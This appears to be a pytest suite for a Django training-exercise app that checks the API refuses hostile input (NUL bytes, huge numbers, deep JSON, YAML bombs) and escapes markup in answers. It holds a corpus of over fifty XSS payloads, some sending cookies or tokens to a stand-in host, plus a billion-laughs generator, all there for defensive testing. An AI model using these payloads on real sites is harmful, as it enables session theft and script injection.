"""Hostile input: characters PostgreSQL cannot store, deep JSON, huge numbers, oversized bodies,
markup in answers, YAML bombs. Each is refused with a 400 that says what and where (or stored and
shown escaped), never a 500, and never at the cost of another client's save.

The group-commit isolation needs PostgreSQL: DATABASE_URL=postgres://... ./dev test tests/test_hardening_input.py
"""

import time
import tracemalloc
from datetime import UTC, datetime, timedelta

import orjson
import pytest
from django.db import connection
from django.test import override_settings
from django.urls import reverse
from django.utils import timezone

from scenarios.models import ScenarioKind
from scenarios.packs import MAX_YAML_DEPTH, PackError, read_pack_file
from simulator import groupcommit, services
from simulator.models import Response, ResponseRevision
from simulator.responses import MAX_ANSWER_BYTES
from simulator.services import token_hash

pytestmark = pytest.mark.django_db(transaction=True)
postgresql_only = pytest.mark.skipif(connection.vendor != "postgresql", reason="group commit is PostgreSQL's")


def _item(attempt, kind="escalation_writeup"):
    return attempt.items.get(kind=kind)


def _put(client, attempt, token, item, body, *, raw: bytes | None = None):
    return client.put(
        f"/api/v1/attempts/{attempt.public_id}/items/{item.public_id}/response/",
        data=raw if raw is not None else orjson.dumps(body),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )


def _deep(depth: int) -> bytes:
    return b'{"a":' * depth + b"1" + b"}" * depth


# Characters PostgreSQL cannot store ----------------------------------------------------------------


def test_a_nul_in_an_answer_is_a_400_naming_the_field_and_nothing_is_saved(client, started):
    attempt, token = started
    item = _item(attempt)

    response = _put(client, attempt, token, item, {"version": 0, "answer": {"packet": "before\x00after"}})

    assert response.status_code == 400
    assert "answer.packet" in response.json()["detail"] and "NUL" in response.json()["detail"]
    assert Response.objects.get(item=item).version == 0
    # The same client's next, clean save goes through: nothing is stuck.
    assert (
        _put(client, attempt, token, item, {"version": 0, "answer": {"packet": "clean"}}).status_code == 200
    )


def test_a_nul_in_a_nested_answer_field_and_in_a_key_is_named(client, started):
    attempt, token = started
    item = _item(attempt, "triage_queue")
    nested = {"version": 0, "answer": {"tickets": {"T1": {"note": "x\x00"}}}}
    in_key = {"version": 0, "answer": {"tickets": {"T\x001": {"note": "x"}}}}

    assert "answer.tickets.T1.note" in _put(client, attempt, token, item, nested).json()["detail"]
    response = _put(client, attempt, token, item, in_key)
    assert response.status_code == 400 and "NUL" in response.json()["detail"]


def test_a_lone_surrogate_is_a_400_not_a_500(client, started):
    attempt, token = started
    item = _item(attempt)
    raw = b'{"version": 0, "answer": {"packet": "\\ud800"}}'

    response = _put(client, attempt, token, item, None, raw=raw)

    assert response.status_code == 400
    assert response.json()["error"] == "parse_error"


def test_a_nul_in_event_data_is_a_400_naming_the_event(client, started):
    attempt, token = started

    response = client.post(
        f"/api/v1/attempts/{attempt.public_id}/events/",
        data={"events": [{"kind": "log_search", "data": {"q": "a\x00b"}}]},
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )

    assert response.status_code == 400
    assert "events[0].data.q" in response.json()["detail"]


def test_a_nul_in_a_staff_body_is_a_400(client, lead, all_kinds_exercise):
    client.force_login(lead)
    body = {
        "exercise": all_kinds_exercise.pk,
        "participant_name": "Nul\x00l",
        "participant_email": "n@example.com",
    }

    response = client.post("/api/v1/invitations/", data=body, content_type="application/json")

    assert response.status_code == 400
    assert "participant_name" in response.json()["detail"]


def test_the_service_refuses_a_nul_too_whoever_calls_it(started):
    attempt, token = started
    item = _item(attempt)

    with pytest.raises(services.InvalidAnswer, match="answer.packet"):
        services.response_save_by_token(
            access_token=token, attempt_public_id=attempt.public_id, item_public_id=item.public_id,
            base_version=0, answer={"packet": "\x00"},
        )  # fmt: skip


# Group commit: one bad save is refused alone ---------------------------------------------------------


@postgresql_only
def test_a_save_postgresql_refuses_is_refused_alone_and_its_batch_is_applied(
    started, invite, all_kinds_exercise
):
    """Input checks stop a NUL before it gets here; should anything else the database refuses slip
    through, the batch is retried save by save, so only that save fails."""
    attempt, token = started
    others = []
    for n in range(3):
        _, invitation_token = invite(all_kinds_exercise, email=f"other{n}@example.com")
        other, other_token = services.attempt_start(invitation_token=invitation_token)[:2]
        others.append((other, other_token))
    now = timezone.now()

    def pending(attempt, token, answer_json):
        return groupcommit.PendingSave(
            attempt=attempt.public_id, token_hash=token_hash(token), item=_item(attempt).public_id,
            version=0, answer=answer_json, now=now,
        )  # fmt: skip

    bad = pending(attempt, token, '{"packet": "\\u0000"}')  # what PostgreSQL's jsonb refuses
    good = [pending(a, t, orjson.dumps({"packet": f"fine {n}"}).decode()) for n, (a, t) in enumerate(others)]
    committer = groupcommit.GroupCommitter(committers=1)
    for p in [good[0], bad, *good[1:]]:
        committer._queue.put(p)
    committer._ensure_running()
    try:
        for p in [bad, *good]:
            assert p.done.wait(10)
    finally:
        committer.close()

    assert bad.result is None and "unsupported Unicode escape sequence" in bad.refused
    assert [p.result.version for p in good] == [1, 1, 1]
    assert [Response.objects.get(item=_item(a)).answer["packet"] for a, _ in others] == [
        "fine 0",
        "fine 1",
        "fine 2",
    ]
    assert Response.objects.get(item=_item(attempt)).version == 0


@postgresql_only
def test_a_refused_save_through_the_service_is_a_400_with_group_commit_on(client, started):
    attempt, token = started
    item = _item(attempt)
    with override_settings(AUTOSAVE_GROUP_COMMIT=True):
        try:
            bad = _put(client, attempt, token, item, {"version": 0, "answer": {"packet": "\x00"}})
            good = _put(client, attempt, token, item, {"version": 0, "answer": {"packet": "ok"}})
        finally:
            groupcommit.committer().close()
    assert (bad.status_code, good.status_code) == (400, 200)


@postgresql_only
def test_postgresql_refusing_the_data_on_the_single_statement_path_is_a_400(started):
    attempt, token = started
    item = _item(attempt)
    pending = groupcommit.PendingSave(
        attempt=attempt.public_id, token_hash=token_hash(token), item=item.public_id, version=0,
        answer='{"packet": "\\u0000"}', now=timezone.now(),
    )  # fmt: skip

    with pytest.raises(groupcommit.Unstorable, match="Unicode"):
        groupcommit.apply_alone(pending)


# Numbers ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("version", [2**31, 2**63, 2**64 - 1, -1, 1.5, "1", True])
def test_a_version_outside_the_column_is_a_400(client, started, version):
    attempt, token = started

    response = _put(client, attempt, token, _item(attempt), {"version": version, "answer": {"packet": "x"}})

    assert response.status_code == 400, response.content
    assert "version" in response.json()["detail"]


@pytest.mark.parametrize("raw", [b"1e400", b"-1e400", b"18446744073709551615", b"NaN", b"Infinity"])
def test_a_number_json_or_the_database_cannot_hold_is_a_400(client, started, raw):
    attempt, token = started
    body = b'{"version": 0, "answer": {"packet": "x", "extra": ' + raw + b"}}"

    response = _put(client, attempt, token, _item(attempt), None, raw=body)

    assert response.status_code == 400, response.content


def test_a_log_cursor_past_the_column_is_a_400(client, started):
    attempt, token = started
    item = _item(attempt, "log_investigation")

    response = client.get(
        f"/api/v1/attempts/{attempt.public_id}/items/{item.public_id}/logs/?cursor={2**70}",
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )

    assert response.status_code == 400


# Depth -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("depth", [33, 1_000, 100_000])
def test_deep_json_is_a_400_on_every_kind_of_endpoint(client, started, lead, depth):
    attempt, token = started
    item = _item(attempt)
    bearer = {"HTTP_AUTHORIZATION": f"Bearer {token}"}
    calls = [
        ("put", f"/api/v1/attempts/{attempt.public_id}/items/{item.public_id}/response/", bearer),
        ("post", f"/api/v1/attempts/{attempt.public_id}/events/", bearer),
        ("post", "/api/v1/attempts/", {}),
        ("post", "/api/v1/auth/token/", {}),
    ]
    body = _deep(depth)
    for method, url, headers in calls:
        response = getattr(client, method)(url, data=body, content_type="application/json", **headers)
        assert response.status_code == 400, (url, response.status_code, response.content[:200])
        assert response.json()["error"] == "parse_error"
    client.force_login(lead)
    response = client.post("/api/v1/invitations/", data=body, content_type="application/json")
    assert response.status_code == 400


def test_the_depth_message_says_what_the_limit_is(client, started):
    attempt, token = started

    response = _put(
        client, attempt, token, _item(attempt), None, raw=b'{"version": 0, "answer": ' + _deep(40) + b"}"
    )

    assert response.status_code == 400
    assert "nested more than 32 levels" in response.json()["detail"]


# Size ---------------------------------------------------------------------------------------------------


def test_an_oversized_body_is_a_413_before_it_is_read(client, started, settings):
    attempt, token = started
    body = b'{"version": 0, "answer": {"packet": "' + b"x" * (settings.API_MAX_BODY_BYTES + 10) + b'"}}'

    response = _put(client, attempt, token, _item(attempt), None, raw=body)

    assert response.status_code == 413


def test_every_kind_has_an_answer_size_limit():
    assert set(MAX_ANSWER_BYTES) == set(ScenarioKind.values)


def test_an_answer_over_its_kinds_limit_is_a_400_that_names_the_limit(client, started):
    attempt, token = started
    item = _item(attempt, "customer_comms")
    limit = MAX_ANSWER_BYTES["customer_comms"]
    answer = {"update": "x" * 15_000, "next_update_at": "", "extra": "z" * limit}

    response = _put(client, attempt, token, item, {"version": 0, "answer": answer})

    assert response.status_code == 400
    assert f"{limit:,}-byte limit" in response.json()["detail"]


# Revisions: the first, the last and one per window -------------------------------------------------------


def _save(attempt, token, item, version, text, now):
    return services.response_save_by_token(
        access_token=token, attempt_public_id=attempt.public_id, item_public_id=item.public_id,
        base_version=version, answer={"packet": text}, now=now,
    )  # fmt: skip


def test_thirty_saves_in_a_second_keep_the_first_and_the_last_revision(started, settings):
    settings.AUTOSAVE_REVISION_SECONDS = 5
    attempt, token = started
    item = _item(attempt)
    start = datetime(2030, 1, 1, 12, 0, 0, tzinfo=UTC)
    attempt.started_at, attempt.deadline = start - timedelta(minutes=1), start + timedelta(hours=1)
    attempt.save()

    for version in range(30):
        _save(attempt, token, item, version, f"v{version + 1}", start + timedelta(milliseconds=30 * version))

    kept = list(ResponseRevision.objects.filter(item=item).values_list("version", "answer"))
    assert kept == [(1, {"packet": "v1"}), (30, {"packet": "v30"})]
    assert Response.objects.get(item=item).answer == {"packet": "v30"}


def test_saves_over_a_minute_keep_one_revision_per_window(started, settings):
    settings.AUTOSAVE_REVISION_SECONDS = 10
    attempt, token = started
    item = _item(attempt)
    start = datetime(2030, 1, 1, 12, 0, 0, tzinfo=UTC)
    attempt.started_at, attempt.deadline = start - timedelta(minutes=1), start + timedelta(hours=1)
    attempt.save()

    for version in range(30):  # one save every two seconds for a minute
        _save(attempt, token, item, version, f"v{version + 1}", start + timedelta(seconds=2 * version))

    saved_at = list(ResponseRevision.objects.filter(item=item).values_list("version", "saved_at"))
    windows = [int(at.timestamp()) // 10 for _, at in saved_at[1:]]
    assert saved_at[0][0] == 1 and saved_at[-1][0] == 30
    assert len(windows) == len(set(windows)) == 6  # one per ten seconds, the last included


def test_with_the_window_at_zero_every_revision_is_kept(started, settings):
    settings.AUTOSAVE_REVISION_SECONDS = 0
    attempt, token = started
    item = _item(attempt)
    for version in range(5):
        _save(attempt, token, item, version, f"v{version + 1}", None)

    assert ResponseRevision.objects.filter(item=item).count() == 5


# Markup in answers is text on the candidate's pages ----------------------------------------------------

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7*7 }}<script>alert(1)</script>",
    "{% debug %}<script>alert(1)</script>",
    "${alert(1)}<script>x</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<x contenteditable onblur=alert(1)>lose focus",
    "<body onpageshow=alert(1)>",
    "<img src=x onerror=fetch('//evil.example/'+document.cookie)>",
    "<script>new Image().src='//evil.example/?'+localStorage.token</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<table background=javascript:alert(1)>",
    "<div hx-get=/staff/ hx-trigger=load>htmx</div>",
    "<div data-hx-post=/api/v1/attempts/ hx-trigger=load>",
    "\u2028\u2029<script>alert(1)</script>",
]


def test_the_corpus_has_more_than_fifty_payloads():
    assert len(XSS_PAYLOADS) > 50


def _markup_free(html: str) -> None:
    for payload in XSS_PAYLOADS:
        assert payload not in html, payload
    for fragment in ("<script>alert", "<img src=x", "<svg onload", "<iframe", "<div hx-get"):
        assert fragment not in html, fragment


def test_markup_saved_as_answers_is_escaped_on_the_workspace(client, invitation_for_client):
    client, attempt, token = invitation_for_client(client, "all-kinds")
    text = "\n".join(XSS_PAYLOADS)
    answers = {
        "escalation_writeup": {"packet": text},
        "customer_comms": {"update": text},
        "postmortem": {"summary": text[:5000]},
    }
    for kind, answer in answers.items():
        response = _put(client, attempt, token, _item(attempt, kind), {"version": 0, "answer": answer})
        assert response.status_code == 200, (kind, response.content[:300])

    html = client.get(reverse("workspace", args=[attempt.public_id])).content.decode()

    _markup_free(html)
    assert "\\u003Cscript\\u003Ealert(1)\\u003C/script\\u003E" in html  # in the page's JSON, escaped


def test_markup_quoted_from_an_answer_in_a_trainees_feedback_is_escaped(client, invitation_for_client):
    from scoring import services as scoring_services

    client, attempt, token = invitation_for_client(client, "postmortem-drill")
    item = attempt.items.get()
    text = "The root cause was an expired certificate on the webhook endpoint. " + " ".join(XSS_PAYLOADS)
    answer = {field: text for field in ("summary", "root_cause_chain", "detection", "prevention")}
    assert _put(client, attempt, token, item, {"version": 0, "answer": answer}).status_code == 200
    services.attempt_submit(attempt=attempt, submitted_by="participant")
    scoring_services.attempt_score(attempt_id=attempt.pk)

    html = client.get(reverse("workspace", args=[attempt.public_id])).content.decode()

    assert "data-feedback-state" in html
    _markup_free(html)


@pytest.fixture
def invitation_for_client(lead, organisation, all_kinds_exercise, invite):
    """Start an exercise through its link in `client`'s browser session: (client, attempt, token)."""
    from simulator.models import Attempt
    from simulator.views import SESSION_TOKENS

    def start(client, slug):
        exercise = organisation.exercises.get(slug=slug)
        invitation, link_token = invite(exercise, email=f"{slug}@example.com")
        assert client.post(reverse("take", args=[link_token])).status_code == 302
        attempt = Attempt.objects.get(invitation=invitation)
        return client, attempt, client.session[SESSION_TOKENS][attempt.public_id]

    return start


# YAML packs -------------------------------------------------------------------------------------------

BILLION_LAUGHS = b'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + b"".join(
    b"%s: &%s [%s]\n" % (name, name, b",".join([b"*" + previous] * 9))
    for previous, name in zip(b"abcdefgh", b"bcdefghi", strict=True)
    for previous, name in [(bytes([previous]), bytes([name]))]
)


def _refused_quickly_in_little_memory(path) -> str:
    tracemalloc.start()
    began = time.monotonic()
    try:
        with pytest.raises(PackError) as refused:
            read_pack_file(path)
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert time.monotonic() - began < 2.0
    assert peak < 50 * 1024 * 1024, f"{peak:,} bytes"
    return str(refused.value)


def test_a_billion_laughs_pack_is_refused_in_bounded_time_and_memory(tmp_path):
    path = tmp_path / "laughs.yaml"
    path.write_bytes(BILLION_LAUGHS)
    assert len(BILLION_LAUGHS) < 600

    assert "expands to more than" in _refused_quickly_in_little_memory(path)


@pytest.mark.parametrize(
    "document",
    [
        b"- " * 50_000 + b"x",
        b"a: " + b"[" * 50_000 + b"]" * 50_000,
        b"".join(b" " * n + b"k:\n" for n in range(1_000)),
    ],
    ids=["block-sequences", "flow-sequences", "block-mappings"],
)
def test_a_50000_deep_pack_is_refused_without_a_recursion_error(tmp_path, document):
    path = tmp_path / "deep.yaml"
    path.write_bytes(document)

    message = _refused_quickly_in_little_memory(path)

    assert f"{MAX_YAML_DEPTH} levels" in message or "nesting depth" in message


def test_an_oversized_pack_is_refused_before_it_is_read(tmp_path, settings):
    settings.SCENARIO_PACK_MAX_BYTES = 1_000
    path = tmp_path / "big.yaml"
    path.write_bytes(b"a: " + b"x" * 2_000)

    assert "limit for a scenario pack" in _refused_quickly_in_little_memory(path)
